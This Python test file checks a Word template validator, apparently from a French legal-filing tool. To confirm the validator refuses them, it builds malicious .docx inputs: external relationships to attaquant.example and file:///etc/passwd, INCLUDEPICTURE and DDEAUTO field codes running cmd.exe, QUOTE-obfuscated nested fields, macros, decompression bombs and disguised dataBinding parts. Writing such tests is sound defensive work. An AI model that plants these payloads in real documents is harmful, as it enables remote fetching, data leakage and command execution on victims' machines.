"""A template's .docx itself: nothing fetched from outside, no macros, no decompression bomb."""

from __future__ import annotations

import re
import time
import zipfile
from pathlib import Path

import pytest
from docx import Document
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml

from refere.modeles import docxzip

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def base_docx(path: Path, *paragraphs: str) -> Document:
    doc = Document()
    for text in paragraphs or ("Cabinet — {{ requerant.designation }}",):
        doc.add_paragraph(text)
    doc.save(str(path))
    return doc


def rezip(src: Path, dest: Path, replace: dict[str, bytes] | None = None, add: dict[str, bytes] | None = None,
          compress: int = zipfile.ZIP_DEFLATED) -> Path:
    replace = replace or {}
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", compress) as zout:
        for info in zin.infolist():
            zout.writestr(info.filename, replace.get(info.filename, zin.read(info.filename)))
        for name, data in (add or {}).items():
            zout.writestr(name, data)
    return dest


def add_relationship(src: Path, dest: Path, rels_name: str, rel_type: str, target: str) -> Path:
    with zipfile.ZipFile(src) as z:
        existing = z.read(rels_name).decode() if rels_name in z.namelist() else None
    rel = f'<Relationship Id="rIdEvil" Type="{REL}/{rel_type}" Target="{target}" TargetMode="External"/>'
    if existing is None:
        xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
               '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
               f"{rel}</Relationships>")
        return rezip(src, dest, add={rels_name: xml.encode()})
    return rezip(src, dest, replace={rels_name: existing.replace("</Relationships>", rel + "</Relationships>").encode()})


@pytest.fixture
def plain(tmp_path) -> Path:
    path = tmp_path / "base.docx"
    base_docx(path)
    return path


def assert_refused(run, example, path: Path, *expected: str) -> None:
    res = run("modele", "verifier", path)
    assert res.exit_code == 1, res.output
    for e in expected:
        assert e in res.output, res.output
    assert "Traceback" not in res.output and "Erreur interne" not in res.output
    res = run("build", example, "--modele", path)
    assert res.exit_code == 1 and expected[0] in res.output, res.output
    assert not (example.parent / "dossier").exists()


@pytest.mark.parametrize("rels, kind, target", [
    ("word/_rels/document.xml.rels", "image", "http://attaquant.example/pixel.png"),
    ("word/_rels/document.xml.rels", "image", "file:///etc/passwd"),
    ("word/_rels/settings.xml.rels", "attachedTemplate", "http://attaquant.example/modele.dotm"),
    ("word/_rels/settings.xml.rels", "attachedTemplate", "\\\\serveur\\partage\\modele.dotx"),
    ("word/_rels/document.xml.rels", "oleObject", "file:///C:/secret.xlsx"),
    ("word/_rels/document.xml.rels", "subDocument", "http://attaquant.example/x.docx"),
    ("word/_rels/document.xml.rels", "hyperlink", "file:///etc/passwd"),
    ("word/_rels/document.xml.rels", "hyperlink", "\\\\serveur\\partage"),
])
def test_external_relationships_refused(plain, tmp_path, run, example, rels, kind, target):
    path = add_relationship(plain, tmp_path / "distant.docx", rels, kind, target)
    assert_refused(run, example, path, f"relation externe « {kind} »", "refusé")


def test_plain_web_hyperlinks_are_kept(tmp_path, run, example):
    path = tmp_path / "lien.docx"
    doc = Document()
    p = doc.add_paragraph("Cabinet — {{ requerant.designation }} — site : ")
    r_id = doc.part.relate_to("https://cabinet.example/", RT.HYPERLINK, is_external=True)
    p._p.append(parse_xml(f'<w:hyperlink xmlns:w="{W}" xmlns:r="{REL}" r:id="{r_id}"><w:r><w:t>cabinet</w:t></w:r></w:hyperlink>'))
    doc.save(str(path))
    assert run("modele", "verifier", path).exit_code == 0
    res = run("build", example, "--modele", path)
    assert res.exit_code == 0, res.output
    with zipfile.ZipFile(example.parent / "dossier" / "requete.docx") as z:
        assert "https://cabinet.example/" in z.read("word/_rels/document.xml.rels").decode()


@pytest.mark.parametrize("instr", ['INCLUDEPICTURE "http://attaquant.example/p.png" \\d',
                                   'INCLUDETEXT "C:\\\\secret.docx"', 'LINK Excel.Sheet.8 "C:\\\\a.xls" "" \\a',
                                   'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'])
def test_fetching_field_codes_refused(tmp_path, run, example, instr):
    path = tmp_path / "champ.docx"
    doc = Document()
    p = doc.add_paragraph("Cabinet ")
    p._p.append(parse_xml(f'<w:fldSimple xmlns:w="{W}" w:instr="{instr.replace(chr(34), "&quot;")}"><w:r><w:t>x</w:t></w:r></w:fldSimple>'))
    q = doc.add_paragraph()
    q._p.append(parse_xml(f'<w:r xmlns:w="{W}"><w:instrText xml:space="preserve"> {instr.split()[0]} x </w:instrText></w:r>'))
    doc.save(str(path))
    assert_refused(run, example, path, f"champ Word « {instr.split()[0]} »")


def test_macros_refused(plain, tmp_path, run, example):
    path = rezip(plain, tmp_path / "macro.docx", add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 512})
    assert_refused(run, example, path, "contenu actif", "vbaProject.bin")
    with zipfile.ZipFile(plain) as z:
        types = z.read("[Content_Types].xml").decode()
    docm = types.replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                         "application/vnd.ms-word.document.macroEnabled.main+xml")
    assert docm != types
    path = rezip(plain, tmp_path / "macro2.docx", replace={"[Content_Types].xml": docm.encode()})
    assert_refused(run, example, path, "macros ou des objets actifs")


def test_activex_and_ole_embeddings_refused(plain, tmp_path, run, example):
    path = rezip(plain, tmp_path / "ole.docx", add={"word/embeddings/oleObject1.bin": b"\0" * 64,
                                                    "word/activeX/activeX1.xml": b"<ax/>"})
    assert_refused(run, example, path, "contenu actif")


def test_decompression_bomb_refused_before_inflating(plain, tmp_path, run, example):
    bomb = rezip(plain, tmp_path / "bombe.docx", add={"word/media/image1.png": b"\0" * (60 * 1024 * 1024)})
    assert bomb.stat().st_size < 1024 * 1024
    start = time.monotonic()
    assert_refused(run, example, bomb, "décompressé ferait", "Mo : refusé")
    assert time.monotonic() - start < 20
    ratio = rezip(plain, tmp_path / "ratio.docx", add={"word/media/image1.png": b"\0" * (5 * 1024 * 1024)})
    assert_refused(run, example, ratio, "bombe de décompression")


def test_safety_check_reads_sizes_from_the_directory_only(plain, tmp_path, monkeypatch):
    bomb = rezip(plain, tmp_path / "bombe.docx", add={"word/media/image1.png": b"\0" * (60 * 1024 * 1024)})

    def no_read(*args, **kwargs):
        raise AssertionError("inflated a member before checking sizes")

    monkeypatch.setattr(zipfile.ZipFile, "read", no_read)
    monkeypatch.setattr(zipfile.ZipFile, "open", no_read)
    assert "Mo : refusé" in docxzip.safety_problems(bomb)[0]


def test_not_a_zip_or_damaged(tmp_path, run):
    (tmp_path / "texte.docx").write_text("bonjour")
    res = run("modele", "verifier", tmp_path / "texte.docx")
    assert res.exit_code == 1 and "document Word" in res.output
    good = tmp_path / "ok.docx"
    base_docx(good)
    data = good.read_bytes()
    (tmp_path / "coupe.docx").write_bytes(data[: len(data) // 2])
    res = run("modele", "verifier", tmp_path / "coupe.docx")
    assert res.exit_code == 1 and "document Word" in res.output and "Erreur interne" not in res.output


def test_builtin_template_is_safe():
    from refere.requete.render import default_template

    assert docxzip.safety_problems(default_template()) == []


def test_oversized_xml_part_refused_before_rendering(tmp_path, run):
    path = tmp_path / "long.docx"
    doc = Document()
    for i in range(12_000):
        doc.add_paragraph(f"Paragraphe {i} " + "texte " * 20)
    doc.save(str(path))
    start = time.monotonic()
    res = run("modele", "verifier", path)
    assert res.exit_code == 1 and "« word/document.xml » démesuré" in res.output and "Mo de XML" in res.output
    assert time.monotonic() - start < 20


def test_too_many_tags_refused(tmp_path, run):
    path = tmp_path / "balises.docx"
    doc = Document()
    for i in range(800):
        doc.add_paragraph("{{ requerant.nom }} {{ requerant.prenoms }} {{ requerant.nom }} {{ requerant.prenoms }}")
    doc.save(str(path))
    res = run("modele", "verifier", path)
    assert res.exit_code == 1 and "modèle démesuré : 3200 balises (au plus 3000)" in res.output


def test_data_hidden_before_the_archive_is_not_read(plain, tmp_path, run):
    """A valid .docx preceded by 60 Mo of padding (a sparse file): refused from its size alone."""
    padded = tmp_path / "rembourre.docx"
    with padded.open("wb") as f:
        f.seek(60 * 1024 * 1024)
        f.write(plain.read_bytes())
    res = run("modele", "verifier", padded)
    assert res.exit_code == 1 and "fichier de 60 Mo : refusé" in res.output


def _field_runs(*pieces: str, sep: bool = True) -> str:
    """A complex field whose instruction is split over several w:instrText runs."""
    runs = [f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>']
    runs += [f'<w:r><w:instrText xml:space="preserve">{p}</w:instrText></w:r>' for p in pieces]
    if sep:
        runs += ['<w:r><w:fldChar w:fldCharType="separate"/></w:r>', "<w:r><w:t>x</w:t></w:r>"]
    runs.append('<w:r><w:fldChar w:fldCharType="end"/></w:r>')
    return "".join(runs)


def _with_body_xml(tmp_path: Path, name: str, inner: str) -> Path:
    path = tmp_path / name
    doc = Document()
    p = doc.add_paragraph("Cabinet — {{ requerant.designation }} ")
    for child in parse_xml(f'<w:p xmlns:w="{W}">{inner}</w:p>'):
        p._p.append(child)
    doc.save(str(path))
    return path


@pytest.mark.parametrize("inner, word", [
    (_field_runs(" INCLUDE", "PICTURE \"http://attaquant.example/p.png\" \\d "), "INCLUDEPICTURE"),
    (_field_runs(" include", "text \"C:\\\\secret.docx\" ", sep=False), "INCLUDETEXT"),
    (_field_runs(" dDeAuTo c:\\\\cmd.exe \"/k calc\""), "DDEAUTO"),
    (f'<w:fldSimple w:instr=" link Excel.Sheet.8 &quot;C:\\a.xls&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple>', "LINK"),
    (_field_runs(" HYPERLINK \"file:///etc/passwd\" "), "HYPERLINK"),
    (f'<w:fldSimple w:instr="hyperlink &quot;\\\\serveur\\partage&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple>', "HYPERLINK"),
])
def test_split_and_lowercase_field_codes_refused(tmp_path, run, example, inner, word):
    path = _with_body_xml(tmp_path, "champ.docx", inner)
    assert_refused(run, example, path, f"champ Word « {word} »")


def test_web_hyperlink_field_and_page_field_kept(tmp_path):
    xml = (f'<w:document xmlns:w="{W}"><w:body><w:p>'
           + _field_runs(" HYPER", "LINK \"https://cabinet.example/\" ") + _field_runs(" PAGE ")
           + _field_runs(" HYPERLINK \\l \"signet\" ") + "</w:p></w:body></w:document>").encode()
    assert docxzip.field_instructions(xml)[0] == 'HYPERLINK "https://cabinet.example/"'
    assert docxzip.field_problems("word/document.xml", xml) == []
    hidden = (f'<w:document xmlns:w="{W}"><w:body><w:p>'
              + _field_runs(' hyperlink \\o "info" "file:///etc/passwd" ') + "</w:p></w:body></w:document>")
    assert "file:///etc/passwd" in docxzip.field_problems("word/document.xml", hidden)[0]


def test_field_assembled_by_the_template_refused_by_verifier_and_build(tmp_path, run, example):
    # No tag of the source shows the field: only the rendered XML does.
    inner = _field_runs("{{ 'INCLUDE' ~ 'PICTURE' }} \"http://attaquant.example/p.png\" ")
    path = _with_body_xml(tmp_path, "assemble.docx", inner)
    assert_refused(run, example, path, "« INCLUDEPICTURE »")


def _internal_relationship(src: Path, dest: Path, rel_type: str, target: str, add: dict[str, bytes] | None = None) -> Path:
    rels_name = "word/_rels/document.xml.rels"
    with zipfile.ZipFile(src) as z:
        existing = z.read(rels_name).decode()
    rel = f'<Relationship Id="rIdX" Type="{REL}/{rel_type}" Target="{target}"/>'
    return rezip(src, dest, replace={rels_name: existing.replace("</Relationships>", rel + "</Relationships>").encode()},
                 add=add)


@pytest.mark.parametrize("rel_type", ["aFChunk", "attachedTemplate", "package", "control"])
def test_relationship_kinds_outside_the_allow_list_refused(plain, tmp_path, run, example, rel_type):
    html = b"<html><body><img src='http://attaquant.example/p.png'></body></html>"
    path = _internal_relationship(plain, tmp_path / "chunk.docx", rel_type, "chunk.html", add={"word/chunk.html": html})
    assert_refused(run, example, path, f"relation « {rel_type} »", "refusé")
    assert "KeyError" not in run("modele", "verifier", path).output


def test_relationship_to_a_missing_part_refused_in_french(plain, tmp_path, run, example):
    path = _internal_relationship(plain, tmp_path / "absente.docx", "image", "media/absente.png")
    assert_refused(run, example, path, "relation vers une partie absente")
    assert "KeyError" not in run("modele", "verifier", path).output


def _complex(code: str, result: str = "<w:r><w:t>x</w:t></w:r>") -> str:
    """A complex field: its instruction part ``code`` and its ``result`` (runs, may hold other fields)."""
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + code
            + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + result + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def _instr(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


QUOTE_INCLUDETEXT = " QUOTE 73 78 67 76 85 68 69 84 69 88 84 "  # Word computes « INCLUDETEXT »


@pytest.mark.parametrize("name, inner, word", [
    # { { QUOTE 73 78 … } "http://…" }: the outer keyword exists only once Word computed the inner field.
    ("quote.docx", _complex(_complex(_instr(QUOTE_INCLUDETEXT), "<w:r><w:t>INCLUDETEXT</w:t></w:r>")
                            + _instr(' "http://attaquant.example/a.docx" ')), "QUOTE"),
    # The same with a w:fldSimple spelling « INCLUDE » in the keyword position, « TEXT » typed after it.
    ("simple.docx", _complex('<w:fldSimple w:instr=" QUOTE 73 78 67 76 85 68 69 "><w:r><w:t>INCLUDE</w:t></w:r>'
                             '</w:fldSimple>' + _instr('TEXT "http://attaquant.example/a.docx" ')), "QUOTE"),
    # A nested field may also make the address: HYPERLINK to what { QUOTE } spells.
    ("adresse.docx", _complex(_instr(" HYPERLINK ") + _complex(_instr(' QUOTE "file:///etc/passwd" '))), "QUOTE"),
])
def test_a_field_inside_another_fields_code_refused(tmp_path, run, example, name, inner, word):
    path = _with_body_xml(tmp_path, name, inner)
    assert_refused(run, example, path, f"champ Word « {word} » placé dans le code d'un autre champ, dans "
                   "« word/document.xml » : Word composerait ce code à l'ouverture", f"Modèle « {name} » inutilisable")


def test_fields_in_another_fields_result_and_deleted_codes():
    xml = (f'<w:document xmlns:w="{W}"><w:body><w:p>'
           # A table of contents' entries: fields in the result part, which Word does not compute as code.
           + _complex(_instr(" TOC \\o &quot;1-3&quot; "), _complex(_instr(" PAGEREF _Toc1 ")))
           + "</w:p></w:body></w:document>")
    assert docxzip.field_problems("word/document.xml", xml) == []
    deleted = (f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:del>'
               '<w:r><w:delInstrText> INCLUDETEXT "x.docx" </w:delInstrText></w:r></w:del>'
               '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body></w:document>')
    assert "« INCLUDETEXT »" in docxzip.field_problems("word/document.xml", deleted)[0]


def _with_settings(src: Path, dest: Path, element: str) -> Path:
    with zipfile.ZipFile(src) as z:
        settings = z.read("word/settings.xml").decode()
    settings = re.sub(r"(<w:settings\b[^>]*>)", lambda m: m[1] + element, settings, count=1)
    return rezip(src, dest, replace={"word/settings.xml": settings.encode()})


def test_update_fields_setting_refused(plain, tmp_path, run, example):
    path = _with_settings(plain, tmp_path / "maj.docx", f'<w:updateFields xmlns:w="{W}" w:val="true"/>')
    assert_refused(run, example, path, "réglage « updateFields » dans « word/settings.xml » : Word proposerait "
                   "à l'ouverture de mettre à jour tous les champs du document ; refusé", "Modèle « maj.docx » inutilisable")
    off = _with_settings(plain, tmp_path / "sans-maj.docx", f'<w:updateFields xmlns:w="{W}" w:val="false"/>')
    assert run("modele", "verifier", off).exit_code == 0
    # Every part is read, wherever _rels/.rels puts the document: here all of word/ is moved to x/.
    moved = tmp_path / "deplace.docx"
    with zipfile.ZipFile(path) as zin, zipfile.ZipFile(moved, "w") as zout:
        for name in zin.namelist():
            data = zin.read(name)
            if name in ("_rels/.rels", "[Content_Types].xml"):
                data = data.replace(b'"/word/', b'"/x/').replace(b'"word/', b'"x/')
            zout.writestr("x/" + name[5:] if name.startswith("word/") else name, data)
    res = run("modele", "verifier", moved)
    assert res.exit_code == 1 and "réglage « updateFields » dans « x/settings.xml »" in res.output, res.output


W14 = "http://schemas.microsoft.com/office/word/2010/wordml"


@pytest.mark.parametrize("binding", [
    f'<w:dataBinding xmlns:w="{W}" w:xpath="/d[1]/nom[1]" w:storeItemID="{{A1B2C3D4-0000-0000-0000-000000000001}}"/>',
    f'<w14:dataBinding xmlns:w14="{W14}" w14:xpath="/d[1]/nom[1]" w14:storeItemID="{{A1B2C3D4-0000-0000-0000-000000000001}}"/>',
])
def test_content_control_bound_to_xml_data_refused(tmp_path, run, example, binding):
    """A content control bound to a customXml part shows the part's value, not what refere filled
    in: the requête would name someone nobody checked (attack 33)."""
    sdt = (f'<w:sdt><w:sdtPr>{binding}</w:sdtPr><w:sdtContent><w:r><w:t>{{{{ requerant.nom }}}}</w:t></w:r>'
           '</w:sdtContent></w:sdt>')
    path = _with_body_xml(tmp_path, "liaison.docx", sdt)
    assert_refused(run, example, path, "contrôle de contenu lié à des données XML (« dataBinding ») dans "
                   "« word/document.xml »", "Modèle « liaison.docx » inutilisable")
    # A content control without a binding (a plain box around text) is fine.
    plain = _with_body_xml(tmp_path, "boite.docx", '<w:sdt><w:sdtPr><w:alias w:val="Nom"/></w:sdtPr><w:sdtContent>'
                           '<w:r><w:t>{{ requerant.nom }}</w:t></w:r></w:sdtContent></w:sdt>')
    assert run("modele", "verifier", plain).exit_code == 0


@pytest.mark.parametrize("disguise", ["utf-16", "renamed", "upper", "bom-renamed"])
def test_content_control_binding_refused_whatever_the_parts_name_or_encoding(tmp_path, run, example, disguise):
    """The binding's check read only parts named « .xml », searching their UTF-8 bytes: the main
    document renamed « document.dat » (Word goes by the content type) or saved in UTF-16 passed
    (attack 37)."""
    sdt = (f'<w:sdt><w:sdtPr><w:dataBinding xmlns:w="{W}" w:xpath="/d[1]/nom[1]" '
           'w:storeItemID="{A1B2C3D4-0000-0000-0000-000000000001}"/></w:sdtPr><w:sdtContent><w:r><w:t>'
           '{{ requerant.nom }}</w:t></w:r></w:sdtContent></w:sdt>')
    plain = _with_body_xml(tmp_path, "liaison.docx", sdt)
    path = tmp_path / f"cache-{disguise}.docx"
    new_name = {"utf-16": "word/document.xml", "renamed": "word/document.dat", "upper": "word/document.XML",
                "bom-renamed": "word/document.dat"}[disguise]
    with zipfile.ZipFile(plain) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            name = info.filename
            if name == "word/document.xml":
                name = new_name
                if disguise == "utf-16":
                    text = data.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"', 1)
                    data = text.encode("utf-16")
                elif disguise == "bom-renamed":  # a byte-order mark: the part no longer starts with « < »
                    data = b"\xef\xbb\xbf" + data
            elif name in ("[Content_Types].xml", "_rels/.rels") and new_name != "word/document.xml":
                data = data.replace(b"/word/document.xml", b"/" + new_name.encode()).replace(
                    b'"word/document.xml"', b'"' + new_name.encode() + b'"')
            zout.writestr(name, data)
    res = run("modele", "verifier", path)
    assert res.exit_code == 1, res.output
    assert f"contrôle de contenu lié à des données XML (« dataBinding ») dans « {new_name} »" in res.output
